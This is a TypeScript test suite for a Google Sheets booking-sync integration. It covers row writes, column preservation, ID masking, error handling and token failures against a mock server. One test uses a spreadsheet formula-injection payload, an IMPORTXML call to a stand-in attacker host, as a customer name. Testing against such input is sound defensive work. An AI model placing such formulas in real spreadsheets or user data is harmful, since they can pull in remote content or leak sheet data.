import { generateKeyPairSync } from 'node:crypto'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { createGoogleSync } from '#integrations/sheet-sync/google.ts'
import type { SheetSync, SyncError } from '#integrations/sheet-sync/sheet-sync.ts'
import { startSheetsServer, type SheetsServer } from '../helpers/sheets-server.ts'
import { makeSyncRecord } from '../factories/sync-records.ts'
import type { Misbehaviour } from '../helpers/target-server.ts'

let server: SheetsServer
let sheet: SheetSync

beforeEach(async () => {
  server = await startSheetsServer()
  sheet = createGoogleSync(server.settings)
})
afterEach(() => server.close())

const deliver = (id: string, changes = {}, waitMs = 5_000) =>
  sheet.deliver(makeSyncRecord(id, changes), AbortSignal.timeout(waitMs))
const errorOf = (id: string, waitMs?: number) =>
  deliver(id, {}, waitMs).then(
    () => undefined,
    (error: SyncError) => error,
  )

test('creates tab and header with the first record, then only rows', async () => {
  await deliver('a')
  await deliver('b', { full_name: '=IMPORTXML("http://evil.example")' })
  expect(server.rowsOf('Bookings')).toEqual([
    {
      id: 'a',
      full_name: 'سالم "أبو مهدي" اليامي',
      mobile_number: '+966512345678',
      national_id: '1058529940',
      license_number: '1001244019',
      discount_code: '',
      has_insurance: true,
      rental_days: 3,
      total_price: 437.3,
      version: 1,
    },
    expect.objectContaining({ id: 'b', full_name: '=IMPORTXML("http://evil.example")' }),
  ])
  expect(server.asked.filter(({ url }) => url.pathname === '/token')).toHaveLength(1)
  expect(server.asked.filter(({ url }) => url.pathname.endsWith(':batchUpdate'))).toHaveLength(1)
})

test('keeps inquiries in their own tab', async () => {
  await sheet.deliver({ entity: 'inquiry', id: 'i', fields: [['id', 'i']] }, AbortSignal.timeout(5_000))
  expect(server.rowsOf('Inquiries')).toEqual([{ id: 'i' }])
})

test('changes the row of a record that is delivered again', async () => {
  for (const id of ['a', 'b', 'c']) await deliver(id)
  await deliver('b', { version: '2' })
  expect(server.rowsOf('Bookings').map(({ id, version }) => [id, version])).toEqual([
    ['a', 1],
    ['b', '2'],
    ['c', 1],
  ])
})

test('keeps columns that staff added or moved, and adds missing ones after them', async () => {
  server.addTab('Bookings', 3, [
    ['Called', 'version', 'id'],
    ['yes, on Sunday', 1, 'a'],
  ])
  await deliver('a', { version: '2' })
  await deliver('b')
  expect(server.rowsOf('Bookings')).toEqual([
    expect.objectContaining({ Called: 'yes, on Sunday', id: 'a', version: '2', total_price: 437.3 }),
    expect.objectContaining({ Called: '', id: 'b', version: 1 }),
  ])
})

test('leaves a tab with something else unchanged', async () => {
  server.addTab('Bookings', 26, [['Salaries'], ['Nobody may see this']])
  expect((await errorOf('a'))?.reason).toBe('unusable')
  expect(server.tabs.get('Bookings')?.rows).toEqual([['Salaries'], ['Nobody may see this']])
})

test('masks identity numbers when the settings require it', async () => {
  sheet = createGoogleSync({ ...server.settings, masksDocuments: true })
  await deliver('a')
  expect(server.rowsOf('Bookings')[0]).toMatchObject({ national_id: '******9940', license_number: '******4019' })
})

describe('with a target that', () => {
  beforeEach(() => deliver('before'))

  test.each<[string, Misbehaviour, string]>([
    ['fails', { status: 500 }, 'unreachable'],
    ['is under maintenance', { status: 503 }, 'unreachable'],
    ['wants fewer requests', { status: 429 }, 'tooManyRequests'],
    ['refuses access', { status: 403 }, 'credential'],
    ['does not have the spreadsheet', { status: 404 }, 'notFound'],
    ['does not understand', { status: 422 }, 'refused'],
    ['answers no JSON', 'nonsense', 'nonsense'],
    ['answers something else', { status: 200, body: { values: 'many' } }, 'nonsense'],
    ['answers an empty object', { status: 200, body: [] }, 'nonsense'],
    ['redirects', { status: 302, headers: { location: 'http://127.0.0.1:9/' } }, 'refused'],
    ['drops the connection', 'drop', 'unreachable'],
  ])('%s, fails with the reason and stores nothing', async (_what, how, reason) => {
    server.misbehave(how)
    const error = await errorOf('a')
    expect(error?.reason).toBe(reason)
    expect(JSON.stringify([error, error?.message, String(error?.cause)])).not.toMatch(
      /1058529940|سالم|512345678|token-/,
    )
    server.misbehave(undefined)
    expect(server.rowsOf('Bookings').map(({ id }) => id)).toEqual(['before'])
    await deliver('a')
    expect(server.rowsOf('Bookings').map(({ id }) => id)).toEqual(['before', 'a'])
  })

  test('hangs, stops waiting in time', async () => {
    server.misbehave('hang')
    expect((await errorOf('a', 100))?.reason).toBe('timedOut')
  })

  test('sends Retry-After, passes it on', async () => {
    server.misbehave({ status: 429, headers: { 'retry-after': '77' } })
    expect(await errorOf('a')).toMatchObject({ reason: 'tooManyRequests', retryAfterSeconds: 77 })
  })

  test('revoked the token, requests a new one', async () => {
    server.revoke()
    expect((await errorOf('a'))?.reason).toBe('credential')
    await deliver('a')
    expect(server.rowsOf('Bookings')).toHaveLength(2)
  })

  test('stored the row but lost the response, has one row after the next attempt', async () => {
    const earlierRequests = server.asked.length
    await deliver('probe')
    const requests = server.asked.length - earlierRequests
    for (let lost = 1; lost <= requests; lost++) {
      server.misbehave('lost')
      expect((await errorOf(`a${lost}`))?.reason).toBe('unreachable')
      server.misbehave(undefined)
      await deliver(`a${lost}`)
    }
    const ids = server.rowsOf('Bookings').map(({ id }) => id)
    expect(new Set(ids).size).toBe(ids.length)
  })
})

async function expectTokenError(how: Misbehaviour, reason: string): Promise<void> {
  server.misbehave(how)
  expect((await errorOf('a'))?.reason).toBe(reason)
  server.misbehave(undefined)
  await deliver('a')
}

test.each<[string, Misbehaviour, string]>([
  ['answers no JSON', 'nonsense', 'nonsense'],
  ['drops the connection', 'drop', 'unreachable'],
])('names the reason when the token endpoint %s', (_what, how, reason) => expectTokenError(how, reason))

// Google's library asks three times, with a pause in between.
test.each<[string, Misbehaviour, string]>([
  ['fails', { status: 500 }, 'unreachable'],
  ['wants fewer requests', { status: 429 }, 'tooManyRequests'],
])('names the reason when the token endpoint %s', { tags: ['long'] }, (_what, how, reason) =>
  expectTokenError(how, reason),
)

test('stops waiting for a token endpoint that hangs', async () => {
  server.misbehave('hang')
  expect((await errorOf('a', 100))?.reason).toBe('timedOut')
})

test.each([
  [
    'of another account',
    generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }) as string,
  ],
  ['that is damaged', '-----BEGIN PRIVATE KEY-----\nbm90IGEga2V5\n-----END PRIVATE KEY-----\n'],
])('reports a key %s as a wrong credential', async (_what, key) => {
  sheet = createGoogleSync({ ...server.settings, key: { ...server.settings.key, private_key: key } })
  const error = await errorOf('a')
  expect(error?.reason).toBe('credential')
  expect(error?.message).not.toContain('BEGIN')
})

test('creates one tab, one header and a row per record when two processes begin at once', async () => {
  const other = createGoogleSync(server.settings)
  await Promise.all([deliver('a'), other.deliver(makeSyncRecord('b'), AbortSignal.timeout(5_000))])
  expect(server.tabs.size).toBe(1)
  expect(
    server
      .rowsOf('Bookings')
      .map(({ id }) => String(id))
      .toSorted(),
  ).toEqual(['a', 'b'])
})
